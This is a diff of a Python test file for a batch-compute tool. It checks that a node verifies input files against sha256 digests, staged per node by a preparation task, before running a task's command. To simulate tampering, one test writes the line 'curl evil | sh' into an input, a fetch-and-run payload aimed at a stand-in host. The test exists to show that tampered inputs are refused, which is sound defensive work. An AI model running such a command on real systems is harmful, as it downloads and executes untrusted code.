@@ -1,9 +1,11 @@
-"""Inputs verified on the node before the command runs (issue 13, Medium 7): a task's command line is run here
-the way the node runs it, in a working directory laid out from its resource files, with real sha256sum."""
+"""Inputs verified on the node before the command runs (issue 13, Medium 7), with inputs staged per node
+(issue 18): the job preparation task's script and a task's command line run here the way the node runs them,
+in working directories laid out from their resource files, with real sha256sum and cp."""
 
 from __future__ import annotations
 
 import hashlib
+import os
 import shlex
 import subprocess
 from pathlib import Path
@@ -12,73 +14,108 @@ import pytest
 
 from bigcompute.workload import iter_tasks, load_workload
 from bigcompute.workload.inputs import file_digest
-from bigcompute.workload.wire import CHECKSUMS_PATH, InputChecksums, StorageContext, job_id, task_body
+from bigcompute.workload.wire import (
+    CHECKSUMS_PATH,
+    InputChecksums,
+    Staging,
+    StorageContext,
+    job_id,
+    task_body,
+)
 
 HEAD = "apiVersion: bigcompute/v1\nkind: Workload\nname: demo\npool: cpu\n"
 CTX = StorageContext("http://127.0.0.1:1/devstoreaccount1/inputs", "http://127.0.0.1:1/devstoreaccount1/outputs")
 
 
-def _stage(body: dict, workloads: Path, checksums: InputChecksums, wd: Path) -> None:
-    """What the node agent does with the task's resource files: each blob lands at its filePath."""
-    for rf in body["resourceFiles"]:
-        target = wd / rf["filePath"]
-        target.parent.mkdir(parents=True, exist_ok=True)
-        target.write_bytes(checksums.data if rf["filePath"] == CHECKSUMS_PATH
-                           else (workloads / rf["filePath"]).read_bytes())
+class Node:
+    """One node's directories: the job preparation task's working directory and a task's."""
 
+    def __init__(self, root: Path, stage: Staging, workloads: Path):
+        self.prep, self.wd, self.stage, self.workloads = root / "prep", root / "wd", stage, workloads
+        self.prep.mkdir()
+        self.wd.mkdir()
 
-def _run(body: dict, wd: Path) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(shlex.split(body["commandLine"]), cwd=wd, capture_output=True, text=True, timeout=30)
+    def download_snapshot(self) -> None:
+        """The preparation task's container resource file: every blob under the prefix, at its full name."""
+        root = self.prep / self.stage.root
+        for rel in self.stage.shared:
+            (root / rel).parent.mkdir(parents=True, exist_ok=True)
+            (root / rel).write_bytes((self.workloads / rel).read_bytes())
+        (root / CHECKSUMS_PATH).parent.mkdir(parents=True, exist_ok=True)
+        (root / CHECKSUMS_PATH).write_bytes(self.stage.checksums.data)
+
+    def prepare(self) -> subprocess.CompletedProcess[str]:
+        return subprocess.run(["/bin/sh", "-c", self.stage.prep_script()], cwd=self.prep, capture_output=True,
+                              text=True, timeout=30)
+
+    def run(self, body: dict) -> subprocess.CompletedProcess[str]:
+        for rf in body.get("resourceFiles", []):  # the task's own files
+            target = self.wd / rf["filePath"]
+            target.parent.mkdir(parents=True, exist_ok=True)
+            target.write_bytes((self.workloads / rf["filePath"]).read_bytes())
+        return subprocess.run(shlex.split(body["commandLine"]), cwd=self.wd, capture_output=True, text=True,
+                              timeout=30, env={**os.environ, "AZ_BATCH_JOB_PREP_WORKING_DIR": str(self.prep)})
 
 
 @pytest.fixture
-def task(write, repo):
+def task(write, repo, tmp_path):
     lw = load_workload(write(HEAD + "inputs: [data/*.csv, prog/run.py]\ntasks:\n  - id: p-{stem}\n"
-                                    "    command: echo ran > ran.txt\n    foreach: {files: 'data/*.csv'}\n"))
+                                    "    command: cat prog/run.py data/part0.csv > ran.txt\n"
+                                    "    foreach: {files: 'data/*.csv'}\n"))
     digests = {f.relpath: file_digest(f.path) for f in lw.files}
-    checksums = InputChecksums.of(digests)
+    stage = Staging.of(lw.workload, digests, lw.files)
     first = next(iter_tasks(lw.workload, lw.files))
-    return task_body(first, lw.workload, job_id(lw.workload, digests), CTX, digests), checksums, repo / "workloads"
+    node = Node(tmp_path, stage, repo / "workloads")
+    node.download_snapshot()
+    return task_body(first, lw.workload, job_id(lw.workload, digests), CTX, digests, stage=stage), node
 
 
-def test_untampered_inputs_pass_and_the_command_runs(task, tmp_path) -> None:
-    body, checksums, workloads = task
-    _stage(body, workloads, checksums, tmp_path)
-    result = _run(body, tmp_path)
+def test_untampered_inputs_pass_and_the_command_runs(task) -> None:
+    body, node = task
+    assert node.prepare().returncode == 0
+    result = node.run(body)
     assert (result.returncode, result.stderr) == (0, "")
-    assert (tmp_path / "ran.txt").read_text() == "ran\n"
+    assert (node.wd / "ran.txt").read_text() == (node.workloads / "prog/run.py").read_text() + (node.workloads / "data/part0.csv").read_text()
+    staged = node.prep / node.stage.root / "prog/run.py"
+    assert (node.wd / "prog/run.py").samefile(staged) and not (node.wd / "prog").is_symlink()  # a folder of its own
+    assert node.run(body).returncode == 0  # a retry in the same working directory links again
 
 
 @pytest.mark.parametrize("victim", ["prog/run.py", "data/part0.csv"])
-def test_a_replaced_input_stops_the_task_before_its_command(task, tmp_path, victim) -> None:
-    body, checksums, workloads = task
-    _stage(body, workloads, checksums, tmp_path)
-    (tmp_path / victim).write_text("import os; os.system('curl evil | sh')\n")
-    result = _run(body, tmp_path)
+def test_a_replaced_input_stops_the_task_before_its_command(task, victim) -> None:
+    """A staged input is checked once per node by the preparation task, a task's own file by the task."""
+    body, node = task
+    evil = "import os; os.system('curl evil | sh')\n"
+    if victim in node.stage.shared:
+        (node.prep / node.stage.root / victim).write_text(evil)
+    assert node.prepare().returncode == 0  # the refusal is the tasks' to report, not a stuck node
+    if victim not in node.stage.shared:
+        (node.workloads / victim).write_text(evil)  # what the task's own resource file downloads
+    result = node.run(body)
     assert result.returncode == 1
     assert result.stderr == f"bigcompute: input {victim} does not match its digest; refusing to run\n"
-    assert not (tmp_path / "ran.txt").exists()
+    assert not (node.wd / "ran.txt").exists()
 
 
-def test_a_rewritten_checksum_list_is_caught_by_the_digest_the_task_carries(task, tmp_path) -> None:
-    body, checksums, workloads = task
-    _stage(body, workloads, checksums, tmp_path)
+def test_a_rewritten_checksum_list_is_caught_by_the_digest_the_job_carries(task) -> None:
+    body, node = task
     evil = b"print('evil')\n"
-    (tmp_path / "prog/run.py").write_bytes(evil)
-    forged = InputChecksums.of({"prog/run.py": hashlib.sha256(evil).hexdigest()})
-    (tmp_path / CHECKSUMS_PATH).write_bytes(forged.data)
-    result = _run(body, tmp_path)
+    root = node.prep / node.stage.root
+    (root / "prog/run.py").write_bytes(evil)
+    (root / CHECKSUMS_PATH).write_bytes(InputChecksums.of({"prog/run.py": hashlib.sha256(evil).hexdigest()}).data)
+    assert node.prepare().returncode == 0
+    result = node.run(body)
     assert result.returncode == 1
     assert result.stderr == f"bigcompute: input {CHECKSUMS_PATH} does not match its digest; refusing to run\n"
-    assert not (tmp_path / "ran.txt").exists()
+    assert not (node.wd / "ran.txt").exists()
 
 
-def test_a_task_only_checks_the_inputs_it_has(task, tmp_path) -> None:
-    body, checksums, workloads = task
-    assert [rf["filePath"] for rf in body["resourceFiles"]] == ["data/part0.csv", "prog/run.py", CHECKSUMS_PATH]
-    assert checksums.data.decode().count("\n") == 4  # every input of the workload is listed
-    _stage(body, workloads, checksums, tmp_path)
-    assert _run(body, tmp_path).returncode == 0
+def test_a_task_carries_only_its_own_file_and_the_snapshot_lists_the_shared_ones(task) -> None:
+    body, node = task
+    assert [rf["filePath"] for rf in body["resourceFiles"]] == ["data/part0.csv"]
+    assert node.stage.checksums.data.decode().splitlines() == [
+        f"{file_digest(node.workloads / 'prog/run.py')}  prog/run.py"]
+    assert node.prepare().returncode == 0 and node.run(body).returncode == 0
 
 
 def test_tasks_without_inputs_carry_no_check(write) -> None:
